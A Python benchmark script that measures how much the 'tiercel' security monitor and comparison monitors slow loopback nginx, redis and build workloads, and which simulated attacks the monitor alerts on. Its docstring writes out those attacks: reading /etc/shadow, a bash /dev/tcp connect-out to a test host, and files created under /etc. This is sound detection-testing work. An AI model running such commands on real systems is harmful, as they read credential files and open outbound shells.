"""A busy server side by side: how much each monitor slows real daemons on loopback, and what tiercel
loses, catches and costs meanwhile (docs/workloads.md says how to read it).

Monitors (`--monitors a,b`; each monitored workload runs right after the same workload unmonitored,
and every workload runs unmonitored once more at the end: a ratio is to its neighbours' mean):

    tiercel            `tiercel run` with its bundled rules
    tiercel-upstream   `tiercel run -r falco_rules.yaml -r falco-incubating_rules.yaml` (the oracles')
    bpftrace-count     bpftrace counting, in the kernel, every tracepoint the agent with its bundled
                       rules attaches (read from the kernel: agentrun.attached_tracepoints): the floor

Workloads (`--workloads a,b`), each for --seconds (the mix for --mix-seconds), as a rate; the servers
are started once, on loopback, with their own config and files in a temporary directory:

    nginx              nginx (2 workers) serving a 512-byte file to `ab -c 32`, a new connection per
                       request (requests/s)
    nginx-keepalive    the same with `ab -k` (requests/s)
    redis              `redis-benchmark -t set -c 50` against redis-server (SETs/s)
    connect            a client-side connect storm: socket+connect+close to a loopback listener
                       (bench/workload_load.c; connects/s)
    build              `make -j2` of a generated C project of --files small files, then `make clean`,
                       over and over (files compiled/s)
    mix                all of the above at once (the geometric mean of their ratios)

ab, redis-benchmark and make run in chunks until the time is up; the rate is the work done over the
wall-clock time. During every run (unmonitored too, so the load is the same) bench/workload_load.c
as `wl_attacker` acts every 0.25 s: `cat /etc/shadow`; every fourth tick a shell connecting out
(`bash -c 'exec 3<>/dev/tcp/HOST/8080'`) to a test host in a network namespace of the bench's own (a
veth pair in 198.51.100.0/24, TEST-NET-2, a listener inside); every fourth tick a file created below
/etc (`touch`, then `rm`). Each action carries a token in its command line or file name: an alert
with the token (or the action's pid, or parent wl_attacker and the action's program) is that
action's; its latency is from the action's start to the alert line read from tiercel's stdout.

Per tiercel cell: records lost in the kernel during the workload, by kind (/metrics'
falcosecurity_scap_n_drops_buffer_total), actions alerted per kind, p99 alert latency, every other
alert by rule (a benign workload should raise none), agent CPU seconds (/proc/PID/stat utime+stime,
from just before the workload to the end of its settling) and per workload second, peak (VmHWM) and
steady (VmRSS after the workload) RSS, start-up seconds. The agent is started anew for every cell.

Run as root: `.venv/bin/python bench/workloads.py [--quick] [--seconds 20] [--mix-seconds 60]
[--monitors ...] [--workloads ...] [--rounds N] [--json FILE] [--chart FILE.png]`. nginx,
apache2-utils, redis-server, redis-tools, bpftrace and python3-matplotlib are installed with apt-get
where missing; every process, the namespace and the veth started here are removed on the way out.
Ratios are noisy on a shared machine: compare within one run only.
"""

from __future__ import annotations

import argparse
import dataclasses
import importlib
import itertools
import json
import math
import os
import re
import statistics
import subprocess
import tempfile
import threading
import time
from collections import Counter
from dataclasses import dataclass, field
from pathlib import Path
from typing import IO, Protocol

from agentrun import AgentProcess, attached_tracepoints, cpu_seconds, note, rss_mb
from busyhost import ALL_WORKLOADS, ATTACKER, TEST_NET, TOOLS, Action, Attacker, Env, Workload, make_workloads
from sidebyside import (
    BPF_READY,
    BpftraceRun,
    apt_install,
    ensure_tool,
    fmt,
    median_range,
    neighbour_ratios,
    oracle_rules,
)

try:
    from orjson import loads
except ImportError:  # any Python 3.11 will do; the venv's has orjson
    from json import loads  # type: ignore[assignment]

ACTION_KINDS = {"s": "shadow", "c": "connect", "e": "etc"}   # the letter in an action's token
LETTERS = {kind: letter for letter, kind in ACTION_KINDS.items()}
PROGRAMS = {"shadow": "cat", "connect": "bash", "etc": "touch"}     # the program each kind runs
ALL_MONITORS = ("tiercel", "tiercel-upstream", "bpftrace-count")
FLOOR = "bpftrace-count"
LOST_BY_KIND = re.compile(r'^falcosecurity_scap_n_drops_buffer_total\{drop="([^"]+)"\}$')


# ---- results -------------------------------------------------------------------------------------------

@dataclass
class Cell:
    monitor: str
    workload: str
    unit: str = ""
    count: int = 0                        # requests / SETs / connects / files compiled
    elapsed_s: float = 0.0
    failed: int = 0                       # requests or connects that failed, builds that failed
    rate: float | None = None
    ratio: float | None = None            # to unmonitored
    floor_ratio: float | None = None      # to bpftrace-count in the same run
    unmonitored: list[float] = field(default_factory=list)
    components: dict[str, float] = field(default_factory=dict)        # mix: each workload's rate
    component_ratios: dict[str, float] = field(default_factory=dict)  # ... and its ratio
    lost: int | None = None               # records lost in the kernel during the workload
    lost_by_kind: dict[str, int] = field(default_factory=dict)
    lost_total: int | None = None         # over the agent's life (its stop summary)
    seen: int | None = None               # records read (tiercel), events counted (bpftrace)
    filtered: int | None = None           # records the kernel filter kept in the kernel
    actions: dict[str, int] = field(default_factory=dict)   # kind -> made during the workload
    alerted: dict[str, int] | None = None                   # kind -> of those, alerted
    latencies_s: list[float] = field(default_factory=list)  # action start -> first alert read
    missed: list[str] = field(default_factory=list)         # "kind index" of the actions not alerted
    misnamed: dict[str, int] = field(default_factory=dict)  # kind -> alerted, never under its program
    attack_rules: dict[str, dict[str, int]] = field(default_factory=dict)  # kind -> rule -> alerts
    p99_latency_s: float | None = None
    other_alerts: dict[str, int] | None = None              # "rule (proc.name)" -> alerts
    cpu_s: float | None = None
    cpu_per_s: float | None = None        # of a core, per workload second
    rss_peak_mb: float | None = None
    rss_steady_mb: float | None = None
    startup_s: float | None = None
    settle_s: float | None = None
    mode: str | None = None
    error: str | None = None


# ---- alerts --------------------------------------------------------------------------------------------

class AlertLog(threading.Thread):
    """tiercel's stdout: every alert line kept with the time it was read."""

    def __init__(self, stream: IO[bytes], token: bytes) -> None:
        super().__init__(daemon=True)
        self.stream, self.token = stream, token + b"-"   # "-": cell 4's token is a prefix of cell 40's
        self.lines: list[tuple[float, bytes]] = []
        self.with_token = 0              # lines naming one of this cell's actions: settling watches
        self.named: set[bytes] = set()   # ... and which actions they name (b"s12": shadow, tick 12)
        self.start()

    def run(self) -> None:
        named = re.compile(rb"%s([sce]\d+)" % re.escape(self.token))
        for line in self.stream:
            self.lines.append((time.monotonic(), line))
            if self.token in line:
                self.with_token += 1
                self.named.update(named.findall(line))


def p99(values: list[float]) -> float | None:
    """The nearest-rank 99th percentile (the largest of fewer than 100 values)."""
    ordered = sorted(values)
    return ordered[math.ceil(0.99 * len(ordered)) - 1] if ordered else None


def kind_of(f: dict[str, object]) -> str | None:
    """The kind of action an alert's fields point to, when no token or pid says which one it is."""
    name, fd = f.get("proc.name"), str(f.get("fd.name"))
    kind = next((k for k, program in PROGRAMS.items() if program == name), None)
    if kind is None and name == ATTACKER:   # its child, known by the parent's name (exec not seen)
        kind = ("shadow" if fd == "/etc/shadow" else "etc" if fd.startswith("/etc/tiercel-workloads-")
                else "connect" if f"{TEST_NET}." in fd else None)
    return kind


def attribute(cell: Cell, alerts: list[tuple[float, bytes]], actions: list[Action], token: str) -> None:
    """Which actions were alerted and how late; every alert that is none of theirs, by rule."""
    main = [a for a in actions if a.kind in ACTION_KINDS.values()]
    by_name = {(a.kind, a.index): a for a in main}
    by_pid = {a.pid: a for a in main}
    cleanup = {a.pid for a in actions if a.kind == "etc-cleanup"}
    named = re.compile(rb"%s-([sce])(\d+)" % re.escape(token.encode()))
    first: dict[tuple[str, int], float] = {}
    other: Counter[str] = Counter()
    rules: dict[str, Counter[str]] = {k: Counter() for k in ACTION_KINDS.values()}
    named_right: set[tuple[str, int]] = set()
    for t, line in alerts:
        try:
            alert = loads(line)
        except ValueError:
            continue
        f = alert.get("output_fields") or {}
        rule, name, m = str(alert.get("rule")), f.get("proc.name"), named.search(line)
        if f.get("proc.pid") in cleanup or (name == "rm" and m):   # not an attack: its file removed
            other[f"{rule} (rm: the bench removing its /etc file)"] += 1
            continue
        action = None
        if m:
            action = by_name.get((ACTION_KINDS[m.group(1).decode()], int(m.group(2))))
        elif isinstance(f.get("proc.pid"), int) and f["proc.pid"] in by_pid:
            action = by_pid[f["proc.pid"]]
        elif ATTACKER in (f.get("proc.pname"), name) and (kind := kind_of(f)) is not None:
            action = next((a for a in main if a.kind == kind and (a.kind, a.index) not in first
                           and a.t <= t), None)   # the earliest of its kind not yet alerted
        if action is not None:
            key = (action.kind, action.index)
            first[key] = min(first.get(key, t), t)
            rules[action.kind][rule] += 1
            if name in (PROGRAMS[action.kind], None):
                named_right.add(key)
        else:
            other[rule + (f" ({name})" if name else "")] += 1
    cell.alerted = {k: sum(1 for (kind, _) in first if kind == k) for k in ACTION_KINDS.values()}
    cell.latencies_s = sorted(first[k] - by_name[k].t for k in first)
    cell.missed = [f"{a.kind} {a.index}" for a in main if (a.kind, a.index) not in first]
    cell.misnamed = {k: sum(1 for key in first if key[0] == k and key not in named_right)
                     for k in ACTION_KINDS.values()}
    cell.p99_latency_s = p99(cell.latencies_s)
    cell.other_alerts = dict(other.most_common())
    cell.attack_rules = {k: dict(n.most_common()) for k, n in rules.items()}


# ---- monitors ------------------------------------------------------------------------------------------

class Monitor(Protocol):
    name: str

    def setup(self) -> None: ...                    # once, before its first workload
    def start(self, token: str) -> float: ...       # per workload; returns start-up seconds
    def pid(self) -> int | None: ...
    def mark(self) -> None: ...                     # just before the workload
    def settle(self, cell: Cell, actions: list[Action], token: str) -> None: ...   # after it
    def stop(self, cell: Cell) -> None: ...
    def teardown(self) -> None: ...                 # once, always


class NoMonitor:
    name = "none"

    def setup(self) -> None: pass
    def start(self, token: str) -> float: return 0.0
    def pid(self) -> int | None: return None
    def mark(self) -> None: pass
    def settle(self, cell: Cell, actions: list[Action], token: str) -> None: pass
    def stop(self, cell: Cell) -> None: pass
    def teardown(self) -> None: pass


def lost_by_kind(metrics: dict[str, float]) -> dict[str, int]:
    return {m.group(1): int(v) for k, v in metrics.items() if (m := LOST_BY_KIND.match(k))}


class Tiercel:
    """`tiercel run --stats` as a black box: JSON alerts on stdout, /metrics for the counts."""

    def __init__(self, name: str, rules: list[Path], env: Env) -> None:
        self.name, self.rules, self.env = name, rules, env
        self.agent: AgentProcess | None = None
        self.before: dict[str, float] = {}
        self.cpu_before = 0.0

    def setup(self) -> None:
        for r in self.rules:
            if not r.is_file():
                raise RuntimeError(f"rule file not found: {r}")

    def start(self, token: str) -> float:
        t0 = time.monotonic()
        self.agent = AgentProcess(self.name, ["--stats", *(a for r in self.rules for a in ("-r", str(r)))])
        proc = self.agent.launch()
        assert proc.stdout is not None
        self.alerts = AlertLog(proc.stdout, token.encode())
        self.agent.wait_ready(180)
        if not self.rules and not self.env.tracepoints:
            self.env.tracepoints = attached_tracepoints(self.agent.pid)
        return time.monotonic() - t0

    def metrics(self) -> dict[str, float]:
        return self.agent.metrics() if self.agent is not None else {}

    def pid(self) -> int | None:
        return self.agent.pid if self.agent is not None else None

    def mark(self) -> None:
        self.before = self.metrics()
        self.cpu_before = cpu_seconds(self.pid()) or 0.0
        self.alerts_before = len(self.alerts.lines)

    def settle(self, cell: Cell, actions: list[Action], token: str) -> None:
        # Done when every action has an alert naming it, or when such alerts have stopped coming for
        # 2 s (what is still in the ring is read by then)
        expected = {f"{LETTERS[a.kind]}{a.index}".encode() for a in actions if a.kind in LETTERS}
        t0 = last = time.monotonic()
        count = self.alerts.with_token
        while (not expected <= self.alerts.named and time.monotonic() - last < 2.0
               and time.monotonic() - t0 < 60):
            time.sleep(0.05)
            if self.alerts.with_token != count:
                count, last = self.alerts.with_token, time.monotonic()
        cell.settle_s = time.monotonic() - t0
        after = self.metrics()
        cpu = cpu_seconds(self.pid())
        if cpu is not None:
            cell.cpu_s = cpu - self.cpu_before
            cell.cpu_per_s = cell.cpu_s / cell.elapsed_s if cell.elapsed_s else None

        def delta(name: str) -> int:
            return int(after.get(name, 0) - self.before.get(name, 0))
        cell.lost = delta("tiercel_kernel_records_lost_total")
        cell.seen = delta("tiercel_kernel_records_total")
        cell.filtered = delta("tiercel_kernel_records_filtered_total")
        was = lost_by_kind(self.before)
        cell.lost_by_kind = {k: n - was.get(k, 0) for k, n in lost_by_kind(after).items()}
        attribute(cell, self.alerts.lines[self.alerts_before:], actions, token)

    def stop(self, cell: Cell) -> None:
        agent, self.agent = self.agent, None
        if agent is None:
            return
        agent.stop()
        self.alerts.join(10)
        totals = [int(m) for line in agent.lines for m in re.findall(r"(\d+) lost in the kernel", line)]
        cell.lost_total = max(totals) if totals else None
        cell.mode = next((line.removeprefix("tiercel: ") for line in agent.lines
                          if line.startswith("tiercel: running")), None)

    def teardown(self) -> None:
        if self.agent is not None:
            self.agent.stop()


def tracefs() -> Path:
    return next((p for p in (Path("/sys/kernel/tracing"), Path("/sys/kernel/debug/tracing"))
                 if (p / "events").is_dir()), Path("/sys/kernel/tracing"))


def floor_program(tracepoints: list[str]) -> str:
    """One count in the kernel on every tracepoint the agent attached, nothing sent to user space."""
    events = tracefs() / "events"
    probes = []
    for tp in tracepoints:
        category = "syscalls" if tp.startswith(("sys_enter_", "sys_exit_")) else next(
            (d.parent.name for d in events.glob(f"*/{tp}")), "*")
        probes.append(f"tracepoint:{category}:{tp}")
    return ",".join(probes) + " { @n = count(); } " + BPF_READY


class Floor:
    """bpftrace counting on the agent's own tracepoints (learnt from an agent with the bundled rules:
    the first tiercel cell, or a start of its own here)."""

    name = FLOOR

    def __init__(self, env: Env) -> None:
        self.env = env
        self.run: BpftraceRun | None = None
        self.cpu_before = 0.0

    def setup(self) -> None:
        ensure_tool("bpftrace", "bpftrace")
        if not self.env.tracepoints:
            agent = AgentProcess("tiercel", [], stdout=subprocess.DEVNULL)
            try:
                agent.start()
                self.env.tracepoints = attached_tracepoints(agent.pid)
            finally:
                agent.stop()
        if not self.env.tracepoints:
            raise RuntimeError("the agent's tracepoints could not be read (BPF_TASK_FD_QUERY)")
        note(f"floor: bpftrace on the agent's {len(self.env.tracepoints)} tracepoints")

    def start(self, token: str) -> float:
        self.run = BpftraceRun(self.name, floor_program(self.env.tracepoints))
        return self.run.start(120)

    def pid(self) -> int | None:
        return self.run.pid if self.run is not None else None

    def mark(self) -> None:
        self.cpu_before = cpu_seconds(self.pid()) or 0.0

    def settle(self, cell: Cell, actions: list[Action], token: str) -> None:
        cpu = cpu_seconds(self.pid())
        if cpu is not None:
            cell.cpu_s = cpu - self.cpu_before
            cell.cpu_per_s = cell.cpu_s / cell.elapsed_s if cell.elapsed_s else None

    def stop(self, cell: Cell) -> None:
        bpf, self.run = self.run, None
        if bpf is None:
            return
        cell.lost = bpf.stop()
        if m := re.search(rb"@n: (\d+)", bpf.tail):
            cell.seen = int(m.group(1))

    def teardown(self) -> None:
        if self.run is not None:
            self.run.stop()


def make_monitor(name: str, env: Env) -> Monitor:
    if name == "tiercel":
        return Tiercel(name, [], env)
    if name == "tiercel-upstream":
        return Tiercel(name, oracle_rules(), env)
    if name == FLOOR:
        return Floor(env)
    raise SystemExit(f"unknown monitor {name!r}: one of none, {', '.join(ALL_MONITORS)}")


# ---- one cell, one run ---------------------------------------------------------------------------------

def run_cell(mon: Monitor, wl: Workload, env: Env, number: int) -> Cell:
    note(f"{mon.name} / {wl.name}")
    cell = Cell(mon.name, wl.name, wl.unit)
    token = f"{env.token}c{number}"
    try:
        cell.startup_s = mon.start(token)
        mon.mark()
        attacker = Attacker(env, token)
        try:
            out = wl.run()
        finally:
            end = time.monotonic()   # CLOCK_MONOTONIC, the actions' clock
            actions = attacker.stop()
        cell.count, cell.elapsed_s, cell.failed = out.count, out.elapsed_s, out.failed
        cell.rate, cell.components = out.rate, out.components
        during = [a for a in actions if a.t <= end]
        cell.actions = {k: sum(1 for a in during if a.kind == k) for k in ACTION_KINDS.values()}
        mon.settle(cell, during, token)
        cell.rss_peak_mb, cell.rss_steady_mb = rss_mb(mon.pid())
    except (RuntimeError, OSError, subprocess.CalledProcessError) as e:
        cell.error = str(e)
        note(f"{mon.name} / {wl.name}: {e}")
    finally:
        mon.stop(cell)
    if cell.failed:
        note(f"{mon.name} / {wl.name}: {cell.failed} failed")
    return cell


def run_all(names: list[str], wls: list[Workload], env: Env, numbers: itertools.count[int]) -> list[Cell]:
    """Each monitored workload right after the same workload unmonitored, and every workload
    unmonitored once more at the end: a monitored cell is compared with its neighbours."""
    cells: list[Cell] = []
    for mon in (make_monitor(n, env) for n in names):
        try:
            mon.setup()
            for wl in wls:
                cells.append(run_cell(NoMonitor(), wl, env, next(numbers)))
                cells.append(run_cell(mon, wl, env, next(numbers)))
        except (RuntimeError, OSError, subprocess.CalledProcessError) as e:
            note(f"{mon.name}: set-up failed: {e}")
            cells += [Cell(mon.name, wl.name, error=f"set-up failed: {e}") for wl in wls]
        finally:
            mon.teardown()
    cells += [run_cell(NoMonitor(), wl, env, next(numbers)) for wl in wls]
    return cells


@dataclass
class Part:
    """One workload of the mix, as neighbour_ratios wants it."""

    monitor: str
    rate: float | None
    ratio: float | None = None
    floor_ratio: float | None = None
    unmonitored: list[float] = field(default_factory=list)


def add_ratios(cells: list[Cell]) -> None:
    neighbour_ratios(cells, lambda c: c.workload, FLOOR)
    mixes = [c for c in cells if c.workload == "mix"]
    for name in dict.fromkeys(n for c in mixes for n in c.components):
        parts = [Part(c.monitor, c.components.get(name)) for c in mixes]
        neighbour_ratios(parts, lambda _p: "", FLOOR)   # the parts are all of one workload
        for c, p in zip(mixes, parts, strict=True):
            if p.ratio is not None:
                c.component_ratios[name] = p.ratio


# ---- the tables ----------------------------------------------------------------------------------------

def fmt_lost(c: Cell) -> str:
    if c.lost is None:
        return "—"
    kinds = ", ".join(f"{k} {n:,}" for k, n in sorted(c.lost_by_kind.items()) if n)
    return f"{c.lost:,}" + (f" ({kinds})" if kinds else "")


def fmt_alerted(c: Cell, kind: str) -> str:
    if c.alerted is None:
        return "—"
    misnamed = c.misnamed.get(kind, 0)   # alerted, but under its parent's name
    return (f"{c.alerted.get(kind, 0)}/{c.actions.get(kind, 0)}"
            + (f" ({misnamed} misnamed)" if misnamed else ""))


def fmt_other(others: dict[str, int] | None) -> str:
    if others is None:
        return "—"
    return "none" if not others else "; ".join(f"{r} ×{n}" for r, n in others.items())


def summary_table(cells: list[Cell], names: list[str]) -> list[str]:
    head = ["monitor", *(f"{w} × unmonitored (× floor)" for w in names),
            f"lost in the kernel ({' / '.join(names)})", "attacks alerted (shadow, connect, /etc)",
            "p99 alert latency s", "other alerts", f"agent CPU per workload s ({' / '.join(names)})",
            "RSS peak / steady MB"]
    rows = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
    for m in dict.fromkeys(c.monitor for c in cells if c.monitor != "none"):
        mine = {c.workload: c for c in cells if c.monitor == m}
        ratios = [("error" if mine[w].error else f"{fmt(mine[w].ratio)} ({fmt(mine[w].floor_ratio)})")
                  if w in mine else "—" for w in names]
        lost = " / ".join(f"{mine[w].lost:,}" if w in mine and mine[w].lost is not None else "—"
                          for w in names)
        done = [c for c in mine.values() if c.alerted is not None]
        hits = ", ".join(f"{sum(c.alerted.get(k, 0) for c in done if c.alerted)}/"
                         f"{sum(c.actions.get(k, 0) for c in done)}" for k in ACTION_KINDS.values()) \
            if done else "—"
        others: Counter[str] = Counter()
        for c in done:
            others.update(c.other_alerts or {})
        cpu = " / ".join(fmt(mine[w].cpu_per_s) if w in mine else "—" for w in names)
        peaks = [c.rss_peak_mb for c in mine.values() if c.rss_peak_mb is not None]
        steady = [c.rss_steady_mb for c in mine.values() if c.rss_steady_mb is not None]
        rss = f"{max(peaks):.0f} / {max(steady):.0f}" if peaks and steady else "—"
        latency = fmt(p99([x for c in done for x in c.latencies_s]))
        rows.append(f"| {m} | " + " | ".join(ratios) + f" | {lost} | {hits} | {latency} | "
                    f"{fmt_other(dict(others.most_common())) if done else '—'} | {cpu} | {rss} |")
    return rows


def detail_table(cells: list[Cell]) -> list[str]:
    head = ["monitor", "workload", "rate /s (unmonitored before / after)", "× unmonitored", "× floor",
            "failed", "lost in the kernel (by kind)", "records read / kept in the kernel", "shadow",
            "connect", "/etc", "p99 latency s", "other alerts", "CPU s (per workload s)",
            "RSS peak / steady MB", "start-up s"]
    rows = ["| " + " | ".join(head) + " |", "|" + "---|" * len(head)]
    for c in cells:
        if c.monitor == "none":
            continue
        if c.error:
            error = c.error[:300].replace("|", "\\|")
            rows.append(f"| {c.monitor} | {c.workload} | error: {error} |" + " |" * (len(head) - 3))
            continue
        base = " / ".join(f"{r:,.0f}" for r in c.unmonitored)
        seen = "—" if c.seen is None else f"{c.seen:,}" + ("" if c.filtered is None else f" / {c.filtered:,}")
        rss = "—" if c.rss_peak_mb is None else f"{c.rss_peak_mb:.0f} / {c.rss_steady_mb:.0f}"
        cpu = "—" if c.cpu_s is None else f"{c.cpu_s:.2f} ({fmt(c.cpu_per_s)})"
        rows.append(f"| {c.monitor} | {c.workload} | {fmt(c.rate, ',.0f')} ({base}) | {fmt(c.ratio)} | "
                    f"{fmt(c.floor_ratio)} | {c.failed} | {fmt_lost(c)} | {seen} | "
                    + " | ".join(fmt_alerted(c, k) for k in ACTION_KINDS.values())
                    + f" | {fmt(c.p99_latency_s)} | {fmt_other(c.other_alerts)} | {cpu} | {rss} | "
                      f"{fmt(c.startup_s)} |")
    return rows


def render(cells: list[Cell], wls: list[Workload], note_text: str) -> str:
    base = []
    for wl in wls:
        runs = [c.rate for c in cells if c.monitor == "none" and c.workload == wl.name and c.rate]
        if runs:
            base.append(f"{wl.name} {statistics.fmean(runs):,.0f} {wl.unit} "
                        f"({min(runs):,.0f}–{max(runs):,.0f} over {len(runs)} runs)")
    mixes = [f"- mix under {c.monitor}: " + ", ".join(f"{n} {r:.2f}" for n, r in c.component_ratios.items())
             for c in cells if c.workload == "mix" and c.monitor != "none" and c.component_ratios]
    modes = dict.fromkeys(f"- {c.monitor}: {c.mode}" for c in cells if c.mode)
    by_rule: dict[str, dict[str, set[str]]] = {}
    for c in cells:
        for kind, rules in c.attack_rules.items():
            by_rule.setdefault(c.monitor, {}).setdefault(kind, set()).update(rules)
    alerted_by = [f"- {m}: the actions alerted by " + "; ".join(
        f"{k}: {', '.join(sorted(r)) or 'no rule'}" for k, r in kinds.items())
        for m, kinds in by_rule.items()]
    names = [wl.name for wl in wls]
    lines = [f"Unmonitored: {'; '.join(base)}.", "", *summary_table(cells, names), "",
             *detail_table(cells), "", *mixes, *modes, *alerted_by, "", note_text]
    return "\n".join(lines)


def median_table(rounds: list[list[Cell]], names: list[str]) -> list[str]:
    monitors = list(dict.fromkeys(c.monitor for r in rounds for c in r if c.monitor != "none"))
    rows = [f"Medians over {len(rounds)} rounds (range):", "",
            "| monitor | workload | × unmonitored | × floor |", "|---|---|---|---|"]
    for m in monitors:
        for w in names:
            mine = [c for r in rounds for c in r if c.monitor == m and c.workload == w and not c.error]
            rows.append(f"| {m} | {w} | {median_range([c.ratio for c in mine if c.ratio])} | "
                        f"{median_range([c.floor_ratio for c in mine if c.floor_ratio])} |")
    return rows


def draw_chart(path: Path, rounds: list[list[Cell]], names: list[str], title: str) -> None:
    """Grouped bars: per workload, each monitor's ratio to unmonitored (the median over the rounds,
    the range as an error bar), and a line at 1."""
    try:
        importlib.import_module("matplotlib")
    except ImportError:
        apt_install("python3-matplotlib")
        importlib.invalidate_caches()
    import matplotlib
    matplotlib.use("Agg")
    import matplotlib.pyplot as plt

    monitors = list(dict.fromkeys(c.monitor for r in rounds for c in r if c.monitor != "none"))
    fig, ax = plt.subplots(figsize=(max(6.0, 1.6 * len(names) + 2), 4.5))
    width = 0.8 / max(len(monitors), 1)
    for i, m in enumerate(monitors):
        ratios = [[c.ratio for r in rounds for c in r if c.monitor == m and c.workload == w and c.ratio]
                  for w in names]
        mid = [statistics.median(v) if v else 0.0 for v in ratios]
        err = [[md - min(v) if v else 0.0 for md, v in zip(mid, ratios, strict=True)],
               [max(v) - md if v else 0.0 for md, v in zip(mid, ratios, strict=True)]]
        xs = [j + (i - (len(monitors) - 1) / 2) * width for j in range(len(names))]
        bars = ax.bar(xs, mid, width, label=m, yerr=err if len(rounds) > 1 else None, capsize=3)
        ax.bar_label(bars, labels=[f"{v:.2f}" if v else "" for v in mid], fontsize=7, padding=2)
    ax.axhline(1.0, color="grey", linewidth=0.8, linestyle="--")
    ax.set_xticks(range(len(names)), names)
    ax.set_ylabel("rate / the same workload unmonitored")
    ax.set_ylim(0, max(1.3, ax.get_ylim()[1] + 0.1))   # room for the labels and the legend
    ax.set_title(title, fontsize=9)
    ax.legend(fontsize=8, loc="upper center", ncol=len(monitors), frameon=False)
    fig.tight_layout()
    fig.savefig(path, dpi=120)
    plt.close(fig)


# ---- main ----------------------------------------------------------------------------------------------

def prepare(env: Env, wanted: list[str], monitors: list[str], files: int) -> None:
    for binary, package in TOOLS.items():
        ensure_tool(binary, package)
    if FLOOR in monitors:
        ensure_tool("bpftrace", "bpftrace")
    env.tmp.chmod(0o755)  # nginx's workers run as an unprivileged user
    env.build_helpers()
    if {"nginx", "nginx-keepalive", "mix"} & set(wanted):
        env.start_nginx()
    if {"redis", "mix"} & set(wanted):
        env.start_redis()
    if {"build", "mix"} & set(wanted):
        env.make_project(files)
    env.start_test_host()


def main() -> None:
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--seconds", type=float, default=20.0, help="length of each workload but the mix")
    ap.add_argument("--mix-seconds", type=float, default=60.0, help="length of the mix")
    ap.add_argument("--files", type=int, default=120, help="C files in the build workload's project")
    ap.add_argument("--monitors", default=",".join(ALL_MONITORS),
                    help=f"comma-separated subset of {', '.join(ALL_MONITORS)} (none always runs)")
    ap.add_argument("--workloads", default=",".join(ALL_WORKLOADS),
                    help=f"comma-separated subset of {', '.join(ALL_WORKLOADS)}")
    ap.add_argument("--quick", action="store_true", help="smoke run: 3 s workloads, a 6 s mix, 40 files")
    ap.add_argument("--rounds", type=int, default=1,
                    help="run everything this many times; the tables are the last round's, preceded by "
                         "each ratio's median and range over the rounds")
    ap.add_argument("--json", type=Path, help="also write every figure and the table here")
    ap.add_argument("--chart", type=Path, help="draw the ratios as grouped bars into this PNG")
    args = ap.parse_args()
    if os.geteuid() != 0:
        raise SystemExit("workloads: run as root (the agent, bpftrace, nginx's user and ip netns need it)")
    if args.quick:
        args.seconds, args.mix_seconds, args.files = 3.0, 6.0, 40
    names = [n for n in args.monitors.split(",") if n and n != "none"]
    wanted = [w for w in args.workloads.split(",") if w]
    if unknown := [w for w in wanted if w not in ALL_WORKLOADS]:
        raise SystemExit(f"unknown workload {unknown[0]!r}: one of {', '.join(ALL_WORKLOADS)}")
    load = Path("/proc/loadavg").read_text().split()[:3]
    started = time.strftime("%Y-%m-%d %H:%M")
    rounds: list[list[Cell]] = []
    with tempfile.TemporaryDirectory(prefix="tiercel-workloads-") as tmp:
        env = Env(Path(tmp), token=f"tcwl{os.getpid()}")
        for n in names:
            make_monitor(n, env)  # unknown names fail before anything runs
        try:
            prepare(env, wanted, names, args.files)
            wls = make_workloads(env, wanted, args.seconds, args.mix_seconds)
            numbers = itertools.count()
            for _ in range(max(args.rounds, 1)):
                rounds.append(run_all(names, wls, env, numbers))
                add_ratios(rounds[-1])
        finally:
            env.close()
    load_end = Path("/proc/loadavg").read_text().split()[:3]
    note_text = (f"{started}, {os.cpu_count()} CPUs, load average {' '.join(load)} before and "
                 f"{' '.join(load_end)} after; --seconds {args.seconds:g} --mix-seconds "
                 f"{args.mix_seconds:g} --files {args.files}; tiercel with its bundled rules attaches "
                 f"{len(env.tracepoints)} tracepoints (the floor counts on them).")
    table = render(rounds[-1], wls, note_text)
    if len(rounds) > 1:
        table = "\n".join(median_table(rounds, wanted)) + "\n\nLast round:\n\n" + table
    print(table)
    if args.json:
        args.json.write_text(json.dumps(
            {"args": {k: str(v) for k, v in vars(args).items()}, "tracepoints": env.tracepoints,
             "rounds": [[dataclasses.asdict(c) for c in r] for r in rounds], "table": table},
            indent=2) + "\n")
    if args.chart:
        draw_chart(args.chart, rounds, wanted, f"Each workload's rate under each monitor, as a ratio to "
                   f"the same workload unmonitored\n({started}, {os.cpu_count()} CPUs"
                   f"{f', median and range of {len(rounds)} rounds' if len(rounds) > 1 else ''})")


if __name__ == "__main__":
    main()
